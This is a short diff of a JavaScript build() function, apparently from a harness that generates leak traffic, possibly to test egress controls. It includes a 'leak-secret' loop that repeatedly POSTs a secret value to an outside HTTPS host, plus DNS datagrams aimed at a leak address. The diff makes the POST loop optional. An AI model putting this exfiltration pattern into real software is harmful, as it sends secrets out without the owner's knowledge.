@@ -88,9 +88,13 @@ async function build() {
       await datagram(sockets[53], question(n), 53, LEAK_V4);
       return datagram(sockets[53], question(n), 53, resolver);
     }),
-    loop('leak-secret', 200, () =>
-      ask('POST', `https://${READS}/ok/${NAME}`, { body: JSON.stringify({ note: KNOWN_SECRET }), agent: kept }),
-    ),
+    ...(KNOWN_SECRET === undefined
+      ? []
+      : [
+          loop('leak-secret', 200, () =>
+            ask('POST', `https://${READS}/ok/${NAME}`, { body: JSON.stringify({ note: KNOWN_SECRET }), agent: kept }),
+          ),
+        ]),
   ];
   while (!existsSync('/tmp/done')) await sleep(100);
   over = true;
